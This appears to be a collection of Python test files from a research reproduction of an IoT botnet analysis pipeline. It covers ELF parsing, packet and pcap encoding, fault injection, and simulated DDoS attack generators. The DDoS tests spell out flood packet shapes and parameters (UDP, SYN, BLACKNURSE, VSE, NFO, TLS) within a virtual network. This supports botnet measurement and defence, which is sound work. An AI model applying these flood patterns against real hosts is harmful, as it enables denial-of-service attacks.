        assert mirai.extract_commands(stream) == [udp_command()]

    def test_empty_stream(self):
        assert mirai.extract_commands(b"") == []

    def test_attack_type_mapping(self):
        assert udp_command().attack_type == "UDP Flood"
        assert AttackCommand("vse", TARGET, 27015, 10).attack_type == "VSE"
        assert AttackCommand("stomp", TARGET, 61613, 10).attack_type == "STOMP"
