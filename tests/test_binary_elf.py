"""Tests for the ELF32 encoder/parser."""

import pytest
from hypothesis import given, strategies as st

from repro.binary.elf import (
    EM_ARM,
    EM_MIPS,
    ElfError,
    ElfImage,
    is_mips32_elf,
    machine_name,
)

section_names = st.text(alphabet="abcdefghijklmnopqrstuvwxyz._", min_size=1, max_size=12)


def make_image(**kwargs):
    image = ElfImage(**kwargs)
    image.add_section(".text", b"\x24\x04\x00\x01" * 16)
    image.add_section(".rodata", b"/bin/busybox\x00")
    image.add_section(".config", b"BCFGdata")
    return image


class TestRoundtrip:
    def test_big_endian(self):
        image = make_image(endianness="big")
        parsed = ElfImage.parse(image.encode())
        assert parsed.machine == EM_MIPS
        assert parsed.endianness == "big"
        assert parsed.section(".config").data == b"BCFGdata"

    def test_little_endian(self):
        image = make_image(endianness="little")
        parsed = ElfImage.parse(image.encode())
        assert parsed.endianness == "little"
        assert parsed.section(".rodata").data == b"/bin/busybox\x00"

    def test_section_names_preserved(self):
        parsed = ElfImage.parse(make_image().encode())
        assert [s.name for s in parsed.sections] == [".text", ".rodata", ".config"]

    def test_entry_preserved(self):
        image = make_image()
        image.entry = 0x00401234
        assert ElfImage.parse(image.encode()).entry == 0x00401234

    @given(
        st.lists(
            st.tuples(section_names, st.binary(min_size=0, max_size=128)),
            min_size=1,
            max_size=6,
            unique_by=lambda t: t[0],
        ),
        st.sampled_from(["big", "little"]),
    )
    def test_roundtrip_property(self, sections, endianness):
        image = ElfImage(endianness=endianness)
        for name, data in sections:
            image.add_section(name, data)
        parsed = ElfImage.parse(image.encode())
        assert [(s.name, s.data) for s in parsed.sections] == sections


class TestValidation:
    def test_magic_bytes(self):
        assert make_image().encode()[:4] == b"\x7fELF"

    def test_rejects_non_elf(self):
        with pytest.raises(ElfError):
            ElfImage.parse(b"MZ\x90\x00" + b"\x00" * 100)

    def test_rejects_short(self):
        with pytest.raises(ElfError):
            ElfImage.parse(b"\x7fELF\x01\x01\x01")

    def test_rejects_elf64(self):
        data = bytearray(make_image().encode())
        data[4] = 2  # EI_CLASS = ELFCLASS64
        with pytest.raises(ElfError, match="64-bit"):
            ElfImage.parse(bytes(data))

    def test_rejects_bad_ei_data(self):
        data = bytearray(make_image().encode())
        data[5] = 9
        with pytest.raises(ElfError):
            ElfImage.parse(bytes(data))

    def test_rejects_truncated_section_table(self):
        data = make_image().encode()
        with pytest.raises(ElfError):
            ElfImage.parse(data[: len(data) - 10])

    def test_duplicate_section_rejected(self):
        image = make_image()
        with pytest.raises(ElfError):
            image.add_section(".text", b"dup")


class TestMipsFilter:
    def test_accepts_mips(self):
        assert is_mips32_elf(make_image().encode())

    def test_rejects_arm(self):
        assert not is_mips32_elf(make_image(machine=EM_ARM).encode())

    def test_rejects_junk(self):
        assert not is_mips32_elf(b"not an elf at all")
        assert not is_mips32_elf(b"")

    def test_machine_names(self):
        assert machine_name(EM_MIPS) == "MIPS"
        assert machine_name(EM_ARM) == "ARM"
        assert "unknown" in machine_name(12345)
