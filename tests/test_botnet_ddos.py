"""Tests for the 8 DDoS attack generators."""

import random

import pytest

from repro.botnet.ddos import (
    AttackVariant,
    FLOOD_PPS,
    NFO_PAYLOAD,
    VSE_PROBE,
    generate_attack,
)
from repro.botnet.protocols.base import ALL_METHODS, AttackCommand
from repro.netsim.addresses import ip_to_int
from repro.netsim.packet import Protocol, TcpFlags

BOT = ip_to_int("198.51.100.77")
TARGET = ip_to_int("192.0.2.50")


def make(method, port=80, duration=30):
    return AttackCommand(method, TARGET, port, duration)


def gen(method, port=80, variant=None, max_packets=200):
    return generate_attack(
        make(method, port), BOT, random.Random(0), start_time=1000.0,
        max_packets=max_packets, variant=variant,
    )


class TestCommonProperties:
    @pytest.mark.parametrize("method", ALL_METHODS)
    def test_all_methods_generate(self, method):
        packets = gen(method)
        assert packets
        assert all(p.src == BOT and p.dst == TARGET for p in packets)

    @pytest.mark.parametrize("method", ALL_METHODS)
    def test_rate_exceeds_heuristic_threshold(self, method):
        """Every attack must trip MalNet's >100 pps heuristic."""
        packets = gen(method)
        span = packets[-1].timestamp - packets[0].timestamp
        assert span > 0
        assert len(packets) / span > 100

    @pytest.mark.parametrize("method", ALL_METHODS)
    def test_timestamps_monotonic(self, method):
        times = [p.timestamp for p in gen(method)]
        assert times == sorted(times)

    def test_max_packets_cap(self):
        assert len(gen("udp", max_packets=50)) == 50

    def test_short_duration_limits_count(self):
        packets = generate_attack(
            make("udp", duration=1), BOT, random.Random(0), 0.0, max_packets=10**6
        )
        assert len(packets) == int(FLOOD_PPS)


class TestUdpFlood:
    def test_null_byte_payload(self):
        packets = gen("udp")
        assert all(p.protocol == Protocol.UDP for p in packets)
        assert all(p.payload == b"\x00" for p in packets)

    def test_fixed_source_port_by_default(self):
        sports = {p.sport for p in gen("udp")}
        assert len(sports) == 1

    def test_rotating_source_ports_variant(self):
        variant = AttackVariant(rotate_source_ports=True)
        sports = {p.sport for p in gen("udp", variant=variant)}
        assert len(sports) > 10

    def test_udpraw_same_shape(self):
        packets = gen("udpraw")
        assert all(p.payload == b"\x00" for p in packets)


class TestSynFlood:
    def test_syn_only_flags(self):
        packets = gen("syn")
        assert all(p.flags == TcpFlags.SYN for p in packets)
        assert all(p.protocol == Protocol.TCP for p in packets)

    def test_multiple_source_ports(self):
        assert len({p.sport for p in gen("hydrasyn")}) > 10

    def test_fixed_dest_port_by_default(self):
        assert {p.dport for p in gen("syn", port=443)} == {443}

    def test_rotating_dest_ports_variant(self):
        variant = AttackVariant(rotate_dest_ports=True)
        assert len({p.dport for p in gen("syn", variant=variant)}) > 10


class TestTls:
    def test_daddyl33t_flavor_is_udp_dtls(self):
        packets = gen("tls", port=4567)
        assert all(p.protocol == Protocol.UDP for p in packets)
        assert all(p.payload.startswith(b"\x16\xfe\xfd") for p in packets)
        assert all(p.dport == 4567 for p in packets)

    def test_mirai_flavor_handshake_chunks_rst(self):
        variant = AttackVariant(rotate_source_ports=True)
        packets = gen("tls", port=443, variant=variant)
        assert any(p.flags == TcpFlags.SYN for p in packets)
        assert any(p.flags & TcpFlags.RST for p in packets)
        assert any(p.payload.startswith(b"\x16\x03\x01") for p in packets)


class TestOtherAttacks:
    def test_blacknurse_icmp_type3_code3(self):
        packets = gen("blacknurse", port=0)
        assert all(p.protocol == Protocol.ICMP for p in packets)
        assert all(p.icmp_type == 3 and p.icmp_code == 3 for p in packets)

    def test_stomp_handshake_then_frames(self):
        packets = gen("stomp", port=61613)
        assert packets[0].flags == TcpFlags.SYN
        frames = [p for p in packets if p.payload]
        assert frames and all(p.payload.startswith(b"SEND\n") for p in frames)

    def test_vse_tsource_probe(self):
        packets = gen("vse", port=27015)
        assert all(p.payload == VSE_PROBE for p in packets)
        assert b"TSource Engine Query" in VSE_PROBE

    def test_std_single_random_string_reused(self):
        packets = gen("std")
        payloads = {p.payload for p in packets}
        assert len(payloads) == 1
        (payload,) = payloads
        assert len(payload) == 32 and payload.isalpha()

    def test_nfo_targets_port_238(self):
        packets = gen("nfo", port=9999)  # command port is ignored
        assert all(p.dport == 238 for p in packets)
        assert all(p.payload == NFO_PAYLOAD for p in packets)
        assert NFO_PAYLOAD.startswith(b"NFOV6")
