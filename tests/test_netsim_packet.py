"""Unit and property tests for packet encode/decode."""

import pytest
from hypothesis import given, strategies as st

from repro.netsim.addresses import ip_to_int
from repro.netsim.packet import (
    Packet,
    PacketError,
    Protocol,
    TcpFlags,
    decode_packet,
    encode_packet,
    icmp_packet,
    tcp_packet,
    udp_packet,
)

SRC = ip_to_int("198.51.100.10")
DST = ip_to_int("203.0.113.20")

ips = st.integers(min_value=0, max_value=0xFFFFFFFF)
ports = st.integers(min_value=0, max_value=0xFFFF)
payloads = st.binary(min_size=0, max_size=256)


class TestTcpRoundtrip:
    def test_basic(self):
        pkt = tcp_packet(SRC, DST, 1234, 80, TcpFlags.SYN, seq=42)
        decoded = decode_packet(encode_packet(pkt))
        assert decoded.src == SRC and decoded.dst == DST
        assert decoded.sport == 1234 and decoded.dport == 80
        assert decoded.flags == TcpFlags.SYN
        assert decoded.seq == 42

    @given(src=ips, dst=ips, sport=ports, dport=ports, payload=payloads,
           seq=st.integers(min_value=0, max_value=2**32 - 1),
           ack=st.integers(min_value=0, max_value=2**32 - 1),
           flags=st.integers(min_value=0, max_value=0x3F))
    def test_roundtrip_property(self, src, dst, sport, dport, payload, seq, ack, flags):
        pkt = tcp_packet(src, dst, sport, dport, TcpFlags(flags), payload, seq, ack)
        decoded = decode_packet(encode_packet(pkt))
        assert decoded == pkt


class TestUdpRoundtrip:
    def test_basic(self):
        pkt = udp_packet(SRC, DST, 53, 53, b"query")
        decoded = decode_packet(encode_packet(pkt))
        assert decoded.payload == b"query"
        assert decoded.protocol == Protocol.UDP

    @given(src=ips, dst=ips, sport=ports, dport=ports, payload=payloads)
    def test_roundtrip_property(self, src, dst, sport, dport, payload):
        pkt = udp_packet(src, dst, sport, dport, payload)
        assert decode_packet(encode_packet(pkt)) == pkt


class TestIcmpRoundtrip:
    def test_blacknurse_shape(self):
        # ICMP type 3 code 3 is the BLACKNURSE attack packet
        pkt = icmp_packet(SRC, DST, icmp_type=3, icmp_code=3, payload=b"x" * 32)
        decoded = decode_packet(encode_packet(pkt))
        assert decoded.icmp_type == 3 and decoded.icmp_code == 3
        assert decoded.payload == b"x" * 32

    @given(src=ips, dst=ips,
           icmp_type=st.integers(min_value=0, max_value=255),
           icmp_code=st.integers(min_value=0, max_value=255),
           payload=payloads)
    def test_roundtrip_property(self, src, dst, icmp_type, icmp_code, payload):
        pkt = icmp_packet(src, dst, icmp_type, icmp_code, payload)
        assert decode_packet(encode_packet(pkt)) == pkt


class TestValidation:
    def test_bad_ip_checksum_rejected(self):
        data = bytearray(encode_packet(udp_packet(SRC, DST, 1, 2, b"a")))
        data[10] ^= 0xFF  # corrupt the IPv4 checksum
        with pytest.raises(PacketError):
            decode_packet(bytes(data))

    def test_bad_tcp_checksum_rejected(self):
        data = bytearray(encode_packet(tcp_packet(SRC, DST, 1, 2, TcpFlags.ACK, b"a")))
        data[-1] ^= 0xFF  # corrupt the payload without fixing the checksum
        with pytest.raises(PacketError):
            decode_packet(bytes(data))

    def test_truncated_rejected(self):
        data = encode_packet(udp_packet(SRC, DST, 1, 2, b"abc"))
        with pytest.raises(PacketError):
            decode_packet(data[:10])

    def test_length_mismatch_rejected(self):
        data = encode_packet(udp_packet(SRC, DST, 1, 2, b"abc"))
        with pytest.raises(PacketError):
            decode_packet(data + b"\x00")

    def test_port_range_validated(self):
        with pytest.raises(PacketError):
            Packet(src=SRC, dst=DST, protocol=Protocol.TCP, sport=70000, dport=80)


class TestPacketHelpers:
    def test_is_syn_and_synack(self):
        syn = tcp_packet(SRC, DST, 1, 2, TcpFlags.SYN)
        synack = tcp_packet(DST, SRC, 2, 1, TcpFlags.SYN | TcpFlags.ACK)
        assert syn.is_syn and not syn.is_synack
        assert synack.is_synack and not synack.is_syn

    def test_size_accounts_for_headers(self):
        assert udp_packet(SRC, DST, 1, 2, b"abcd").size == 20 + 8 + 4
        assert tcp_packet(SRC, DST, 1, 2, TcpFlags.ACK, b"ab").size == 20 + 20 + 2
        assert icmp_packet(SRC, DST, 8).size == 20 + 8

    def test_reply_template_swaps_endpoints(self):
        pkt = udp_packet(SRC, DST, 10, 20)
        reply = pkt.reply_template()
        assert (reply.src, reply.dst) == (DST, SRC)
        assert (reply.sport, reply.dport) == (20, 10)

    def test_describe_mentions_endpoints(self):
        text = tcp_packet(SRC, DST, 1, 2, TcpFlags.SYN).describe()
        assert "198.51.100.10:1" in text and "203.0.113.20:2" in text
        icmp_text = icmp_packet(SRC, DST, 3, 3).describe()
        assert "ICMP" in icmp_text and "type=3" in icmp_text
