"""The fault-injection layer and the degradation paths it exercises.

Three layers of coverage:

* unit: :func:`is_ip_literal` strictness, :class:`FaultInjector` purity,
  the endpoint-parsing regressions ("1234" is a DNS name, not an IP),
  the monitor's metadata-based rule matching, the backbone-cap counter;
* pipeline: a raising sample is quarantined (stub profile + counter +
  warning event) while the rest of the day proceeds; feed outages are
  backfilled by the next successful pull;
* system: the serial == merged-parallel invariant holds byte-for-byte
  under a non-trivial fault plan for 1/2/4 workers, and a chaos-crashed
  shard worker is re-dispatched (or, when retries are exhausted,
  reported in ``failed_shards``) instead of wedging the study.
"""

import dataclasses

import pytest

from repro.botnet.protocols.base import AttackCommand
from repro.core.datasets import Datasets, DdosRecord
from repro.core.ddos_analysis import issuing_c2_countries
from repro.core.firewall import FirewallRule
from repro.core.monitor import ContinuousMonitor, DailyDigest
from repro.core.pipeline import MalNet, PipelineConfig
from repro.core.retry import RetryPolicy
from repro.core.study import run_study
from repro.netsim.addresses import ip_to_int, is_ip_literal
from repro.netsim.faults import FAULT_PLANS, FaultInjector, FaultPlan
from repro.netsim.internet import VirtualInternet
from repro.netsim.packet import Packet, Protocol
from repro.obs import create_telemetry
from repro.world import StudyScale, generate_world

SCALE = StudyScale(sample_fraction=0.05, probe_days=4,
                   observe_duration=1800.0, observe_poll_interval=300.0,
                   scan_budget=120)
SEED = 1337

#: every fault class enabled, rates high enough to fire at this scale
PLAN = FAULT_PLANS["heavy"]


@pytest.fixture(scope="module")
def serial_faulty():
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(
        world, config=PipelineConfig(faults=PLAN))
    return datasets


# -- is_ip_literal and the endpoint-parsing regressions -----------------------


def test_is_ip_literal_strictness():
    for good in ("1.2.3.4", "0.0.0.0", "255.255.255.255", "198.51.100.9"):
        assert is_ip_literal(good), good
    for bad in ("1234", "1.2.3", "999.1.1.1", "1.2.3.4.5", "", "1..2.3",
                "1.2.3.", ".1.2.3", "0001.2.3.4", "1.2.3.4 ", "a.b.c.d",
                "-1.2.3.4"):
        assert not is_ip_literal(bad), bad


@pytest.mark.parametrize("hostile", ["1234", "1.2.3", "999.1.1.1"])
def test_resolve_endpoint_treats_numeric_names_as_dns(hostile):
    """Config-extracted strings that look numeric but are not addresses
    must go to the resolver (and miss), not crash ip_to_int."""
    world = generate_world(seed=SEED, scale=SCALE)
    malnet = MalNet(world, PipelineConfig())
    assert malnet._resolve_endpoint(hostile) is None


def test_uses_dns_on_numeric_non_address():
    from repro.binary.config import BotConfig

    assert BotConfig(family="mirai", c2_host="1234").uses_dns
    assert BotConfig(family="mirai", c2_host="999.1.1.1").uses_dns
    assert not BotConfig(family="mirai", c2_host="198.51.100.9").uses_dns


def test_ddos_country_analysis_survives_numeric_names():
    world = generate_world(seed=SEED, scale=SCALE)
    datasets = Datasets()
    command = AttackCommand("udp", 0x01020304, 80, 60)
    datasets.d_ddos.append(DdosRecord("1234", "mirai", command, when=0.0))
    datasets.d_ddos.append(DdosRecord("999.1.1.1", "mirai", command, when=0.0))
    counts = issuing_c2_countries(datasets, world.asdb)
    assert counts == {"??": 2}


# -- monitor rule matching (substring bug) ------------------------------------


def test_time_to_first_rule_matches_endpoint_metadata():
    monitor = ContinuousMonitor.__new__(ContinuousMonitor)
    wide = FirewallRule("iptables", "-A OUTPUT -d 11.2.3.45 -j DROP",
                        "C2", endpoint="11.2.3.45")
    narrow = FirewallRule("iptables", "-A OUTPUT -d 1.2.3.4 -j DROP",
                          "C2", endpoint="1.2.3.4")
    monitor.digests = [
        DailyDigest(day=0, new_rules=[wide]),
        DailyDigest(day=3, new_rules=[narrow]),
    ]
    # "1.2.3.4" is a substring of "11.2.3.45": the old text match would
    # have credited day 0
    assert monitor.time_to_first_rule("1.2.3.4") == 3
    assert monitor.time_to_first_rule("11.2.3.45") == 0
    assert monitor.time_to_first_rule("5.6.7.8") is None


# -- backbone cap accounting --------------------------------------------------


def test_backbone_cap_counts_drops_and_warns_once():
    import random

    telemetry = create_telemetry()
    internet = VirtualInternet(random.Random(0))
    internet.backbone_limit = 2
    internet.telemetry = telemetry
    for i in range(5):
        internet.send_datagram(Packet(src=1, dst=2, protocol=Protocol.UDP))
    assert len(internet.backbone) == 2
    assert internet.backbone_dropped == 3
    warnings = [e for e in telemetry.events.events
                if e["event"] == "netsim.backbone_full"]
    assert len(warnings) == 1 and warnings[0]["limit"] == 2


# -- fault injector determinism ----------------------------------------------


def test_fault_injector_is_pure_and_seed_dependent():
    a = FaultInjector(PLAN, seed=1)
    b = FaultInjector(PLAN, seed=1)
    c = FaultInjector(PLAN, seed=2)
    probes = [(host, t) for host in (11, 22, 33) for t in
              (0.0, 1800.5, 86400.25, 9 * 86400.0)]
    answers = [a.connection_fails(h, t) for h, t in probes]
    # same seed: identical answers regardless of query order
    assert [b.connection_fails(h, t) for h, t in reversed(probes)] == \
        list(reversed(answers))
    # a different seed draws different underlying units
    assert [c._unit("syn-window", h, 0) for h in range(8)] != \
        [a._unit("syn-window", h, 0) for h in range(8)]
    names = [f"host{i}.example" for i in range(50)]
    assert [a.dns_servfail(n, 100.0) for n in names] == \
        [b.dns_servfail(n, 100.0) for n in names]


def test_fault_plan_enabled_and_chaos_hooks():
    assert not FaultPlan().enabled
    assert FaultPlan(crash_shards=(1,)).enabled
    plan = FaultPlan(crash_shards=(1,), crash_attempts=2,
                     hang_shards=(0,), hang_attempts=1)
    injector = FaultInjector(plan, seed=0)
    assert injector.worker_crashes(1, 0) and injector.worker_crashes(1, 1)
    assert not injector.worker_crashes(1, 2)
    assert not injector.worker_crashes(0, 0)
    assert injector.worker_hangs(0, 0) and not injector.worker_hangs(0, 1)


def test_retry_policy():
    policy = RetryPolicy(attempts=3, backoff=60.0, multiplier=2.0,
                         max_backoff=100.0)
    assert [policy.delay(i) for i in range(3)] == [60.0, 100.0, 100.0]
    with pytest.raises(ValueError):
        RetryPolicy(attempts=0)


# -- per-sample quarantine ----------------------------------------------------


def test_raising_sample_is_quarantined_not_fatal():
    """A sample whose analysis raises becomes a stub profile; the rest of
    the day's samples are still profiled."""
    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SCALE)
    malnet = MalNet(world, PipelineConfig(), telemetry=telemetry)
    baseline = MalNet(generate_world(seed=SEED, scale=SCALE),
                      PipelineConfig())
    baseline.run()
    target = next(p.sha256 for p in baseline.datasets.profiles
                  if p.activated)

    inner = malnet._analyze_binary_inner

    def sabotage(sha256, data, published, day, source):
        if sha256 == target:
            raise ValueError("malformed IoC string")
        return inner(sha256, data, published, day, source)

    malnet._analyze_binary_inner = sabotage
    malnet.run()

    profiles = malnet.datasets.profiles
    assert len(profiles) == len(baseline.datasets.profiles)
    stub = next(p for p in profiles if p.sha256 == target)
    assert stub.quarantined and not stub.activated
    assert stub.quarantine_reason == "ValueError: malformed IoC string"
    assert "QUARANTINED" in stub.summary_line()
    healthy = [p for p in profiles if p.sha256 != target]
    assert healthy == [p for p in baseline.datasets.profiles
                       if p.sha256 != target]
    assert telemetry.metrics.value("samples_quarantined",
                                   error="ValueError") == 1
    warnings = [e for e in telemetry.events.events
                if e["event"] == "pipeline.sample_quarantined"]
    assert len(warnings) == 1 and warnings[0]["sha256"] == target


def test_sandbox_crashes_every_attempt_quarantines():
    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SCALE)
    malnet = MalNet(world, PipelineConfig(
        faults=FaultPlan(sandbox_crash_rate=1.0)), telemetry=telemetry)
    malnet.run()
    profiles = malnet.datasets.profiles
    assert profiles and all(p.quarantined for p in profiles)
    assert all(p.quarantine_reason.startswith("SandboxCrash")
               for p in profiles)
    # attempts - 1 retries were burned per sample before giving up
    assert telemetry.metrics.value("pipeline_retries", stage="sandbox") == \
        2 * len(profiles)
    assert telemetry.metrics.value("samples_quarantined",
                                   error="SandboxCrash") == len(profiles)


def test_transient_sandbox_crash_leaves_no_trace():
    """A crash on attempt 0 that recovers on attempt 1 must produce the
    exact datasets of a fault-free run: the reseed-per-attempt contract."""
    clean = MalNet(generate_world(seed=SEED, scale=SCALE), PipelineConfig())
    clean.run()

    class FirstAttemptCrashes(FaultInjector):
        def sandbox_crash(self, sha256, attempt):
            return attempt == 0

    flaky = MalNet(generate_world(seed=SEED, scale=SCALE),
                   PipelineConfig(faults=FaultPlan(sandbox_crash_rate=1.0)))
    flaky.faults = FirstAttemptCrashes(FaultPlan(sandbox_crash_rate=1.0),
                                       flaky._seed_base)
    flaky.sandbox.faults = flaky.faults
    flaky.run()
    assert flaky.datasets == clean.datasets


# -- feed outage and backfill -------------------------------------------------


def test_feed_outage_is_backfilled_by_next_pull():
    """Entries published during an outage day surface on the next
    successful pull (widened window), including an outage on day 0."""
    day = 86400.0
    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SCALE)
    malnet = MalNet(world, PipelineConfig(
        faults=FaultPlan(feed_outage_rate=1e-9)),  # enabled, never fires
        telemetry=telemetry)

    class DownUntil(FaultInjector):
        def __init__(self, cutoff):
            super().__init__(FaultPlan(feed_outage_rate=1.0), seed=0)
            self.cutoff = cutoff

        def feed_unavailable(self, feed, when, attempt):
            return when <= self.cutoff

    service = world.vt
    # window the pulls around the first published entry so the recovered
    # window is guaranteed non-empty
    base = min(e.published for e in service._feed) - 900.0
    service.faults = DownUntil(base + 2 * day)  # first two pulls fail
    pulls = [malnet._pull_feed(service, base + i * day, base + (i + 1) * day)
             for i in range(3)]
    assert pulls[0] == [] and pulls[1] == []
    # the day-2 pull recovered days 0-1 as well: its window reaches back
    # to the cursor, so it returns everything published in [base, 3d)
    direct = [e for e in service._feed
              if base <= e.published < base + 3 * day]
    service.faults = None
    assert pulls[2] == direct and direct
    events = telemetry.events.events
    assert len([e for e in events
                if e["event"] == "pipeline.feed_outage"]) == 2
    backfills = [e for e in events
                 if e["event"] == "pipeline.feed_backfill"]
    assert len(backfills) == 1 and backfills[0]["recovered"] == len(direct)
    # every failed attempt but the last of each pull counted as a retry
    assert telemetry.metrics.value("pipeline_retries", stage="feed") == 4


# -- the invariant under faults ----------------------------------------------


@pytest.mark.parametrize("workers", [1, 2, 4])
def test_parallel_equals_serial_under_faults(workers, serial_faulty):
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(
        world, config=PipelineConfig(faults=PLAN), workers=workers)
    assert datasets == serial_faulty
    assert list(datasets.d_c2s) == list(serial_faulty.d_c2s)
    assert [p.sha256 for p in datasets.profiles] == \
        [p.sha256 for p in serial_faulty.profiles]
    assert datasets.failed_shards == []


def test_faults_change_the_output(serial_faulty):
    """The plan actually bites: a faulty run differs from a clean one."""
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, clean = run_study(world)
    assert clean != serial_faulty


# -- chaos: shard worker loss -------------------------------------------------


def test_crashed_shard_worker_is_redispatched(serial_faulty):
    """Shard 1's worker dies mid-study (os._exit: no exception, no
    result); the runner re-dispatches it and the merge is still
    byte-identical to the serial run."""
    plan = dataclasses.replace(PLAN, crash_shards=(1,), crash_attempts=1)
    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(
        world, config=PipelineConfig(faults=plan), workers=2,
        telemetry=telemetry, shard_timeout=30.0)
    assert datasets == serial_faulty
    assert datasets.failed_shards == []
    assert telemetry.metrics.value("shard_redispatches") == 1
    assert any(e["event"] == "study.shard_redispatched"
               for e in telemetry.events.events)


def test_exhausted_redispatch_reports_partial_merge(serial_faulty):
    """A shard that keeps dying is reported in failed_shards — a partial
    result, not an exception and not a silent gap."""
    plan = dataclasses.replace(PLAN, crash_shards=(1,), crash_attempts=99)
    telemetry = create_telemetry()
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(
        world, config=PipelineConfig(faults=plan), workers=2,
        telemetry=telemetry, shard_timeout=15.0, max_redispatch=0)
    assert datasets.failed_shards == [1]
    assert telemetry.metrics.value("shards_failed") == 1
    partial = [e for e in telemetry.events.events
               if e["event"] == "study.partial_merge"]
    assert len(partial) == 1 and partial[0]["failed_shards"] == [1]
    # shard 0's slice of the corpus still made it into the merge
    assert datasets.profiles
    assert {p.sha256 for p in datasets.profiles} < \
        {p.sha256 for p in serial_faulty.profiles}


def test_worker_raising_is_also_redispatched():
    """A worker that raises (instead of dying) fails fast through the
    pool and is retried the same way."""
    from repro.core.parallel import ShardedStudyRunner

    world = generate_world(seed=SEED, scale=SCALE)
    runner = ShardedStudyRunner(world, workers=2, shard_timeout=30.0)
    # simulate by calling the collector directly with a poisoned result
    class Poisoned:
        def get(self, timeout=None):
            raise RuntimeError("worker exploded")

    results = {}
    failures = runner._collect({1: Poisoned()}, results)
    assert failures == {1: "RuntimeError: worker exploded"} and not results
