"""Tests for pcap I/O and the in-memory Capture."""

import io
import struct

import pytest
from hypothesis import given, strategies as st

from repro.netsim.addresses import ip_to_int
from repro.netsim.capture import (
    Capture,
    CaptureError,
    PcapReader,
    PcapWriter,
    PCAP_MAGIC,
)
from repro.netsim.packet import Protocol, TcpFlags, icmp_packet, tcp_packet, udp_packet

A = ip_to_int("198.51.100.1")
B = ip_to_int("203.0.113.1")
C = ip_to_int("192.0.2.1")


def sample_packets():
    return [
        tcp_packet(A, B, 1000, 80, TcpFlags.SYN, timestamp=1.0),
        tcp_packet(B, A, 80, 1000, TcpFlags.SYN | TcpFlags.ACK, timestamp=1.5),
        udp_packet(A, C, 5353, 53, b"dns?", timestamp=2.25),
        icmp_packet(C, A, 8, payload=b"ping", timestamp=3.125),
    ]


class TestPcapFormat:
    def test_global_header_fields(self):
        buf = io.BytesIO()
        PcapWriter(buf)
        magic, major, minor, _tz, _sig, snaplen, linktype = struct.unpack(
            "!IHHiIII", buf.getvalue()
        )
        assert magic == PCAP_MAGIC
        assert (major, minor) == (2, 4)
        assert snaplen == 65535
        assert linktype == 101  # LINKTYPE_RAW

    def test_roundtrip(self):
        packets = sample_packets()
        buf = io.BytesIO()
        writer = PcapWriter(buf)
        writer.write_all(packets)
        assert writer.count == len(packets)
        buf.seek(0)
        restored = list(PcapReader(buf))
        assert restored == packets

    def test_timestamps_preserved_to_microseconds(self):
        pkt = udp_packet(A, B, 1, 2, b"x", timestamp=1234.567891)
        buf = io.BytesIO()
        PcapWriter(buf).write(pkt)
        buf.seek(0)
        (restored,) = list(PcapReader(buf))
        assert abs(restored.timestamp - 1234.567891) < 1e-6

    def test_bad_magic_rejected(self):
        data = b"\x00" * 24
        with pytest.raises(CaptureError):
            PcapReader(io.BytesIO(data))

    def test_truncated_record_rejected(self):
        buf = io.BytesIO()
        PcapWriter(buf).write(udp_packet(A, B, 1, 2, b"abc"))
        data = buf.getvalue()[:-2]
        reader = PcapReader(io.BytesIO(data))
        with pytest.raises(CaptureError):
            list(reader)

    def test_empty_file_yields_nothing(self):
        buf = io.BytesIO()
        PcapWriter(buf)
        buf.seek(0)
        assert list(PcapReader(buf)) == []


class TestCapture:
    def test_roundtrip_bytes(self):
        cap = Capture(sample_packets(), label="t")
        restored = Capture.from_pcap_bytes(cap.to_pcap_bytes())
        assert restored.packets == cap.packets

    def test_save_and_load(self, tmp_path):
        cap = Capture(sample_packets())
        path = tmp_path / "trace.pcap"
        cap.save(str(path))
        assert Capture.load(str(path)).packets == cap.packets

    @given(st.lists(
        st.tuples(
            st.integers(min_value=1, max_value=0xFFFFFFFE),
            st.integers(min_value=0, max_value=0xFFFF),
            st.binary(max_size=32),
            st.floats(min_value=0, max_value=1e9, allow_nan=False),
        ),
        max_size=20,
    ))
    def test_roundtrip_property(self, rows):
        packets = [
            udp_packet(A, dst, 1000, dport, payload, timestamp=round(ts, 5))
            for dst, dport, payload, ts in rows
        ]
        cap = Capture(packets)
        restored = Capture.from_pcap_bytes(cap.to_pcap_bytes())
        assert len(restored) == len(cap)
        for orig, back in zip(cap, restored):
            assert (back.dst, back.dport, back.payload) == (
                orig.dst, orig.dport, orig.payload
            )
            assert abs(back.timestamp - orig.timestamp) < 1e-5

    def test_filters(self):
        cap = Capture(sample_packets())
        assert len(cap.involving(A)) == 4
        assert len(cap.involving(B)) == 2
        assert len(cap.to_host(C)) == 1
        assert len(cap.from_host(C)) == 1
        assert len(cap.by_protocol(Protocol.UDP)) == 1
        assert len(cap.between(1.0, 2.0)) == 2

    def test_stats(self):
        cap = Capture(sample_packets())
        assert cap.destinations() == {B, C, A}
        assert cap.duration() == pytest.approx(2.125)
        assert cap.total_bytes() == sum(p.size for p in cap)
        assert cap.packets_per_second() == pytest.approx(4 / 2.125)

    def test_destination_ports(self):
        cap = Capture(sample_packets())
        ports = cap.destination_ports(Protocol.TCP)
        assert ports == {80: 1, 1000: 1}

    def test_empty_capture_stats(self):
        cap = Capture()
        assert cap.duration() == 0.0
        assert cap.packets_per_second() == 0.0
        assert cap.total_bytes() == 0
