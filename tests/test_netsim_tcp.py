"""Tests for the TCP connection state machine."""

import random

import pytest

from repro.netsim.addresses import ip_to_int
from repro.netsim.packet import TcpFlags, tcp_packet
from repro.netsim.tcp import TcpConnection, TcpError, TcpState, handshake_pair

CLIENT = ip_to_int("198.51.100.1")
SERVER = ip_to_int("203.0.113.1")


def fresh_pair(seed=0):
    rng = random.Random(seed)
    return handshake_pair(CLIENT, SERVER, 40000, 80, rng)


class TestHandshake:
    def test_both_sides_established(self):
        client, server, trace = fresh_pair()
        assert client.established and server.established

    def test_trace_is_syn_synack_ack(self):
        _, _, trace = fresh_pair()
        assert len(trace) == 3
        assert trace[0].is_syn
        assert trace[1].is_synack
        assert trace[2].flags == TcpFlags.ACK

    def test_sequence_numbers_consistent(self):
        _, _, trace = fresh_pair()
        syn, synack, ack = trace
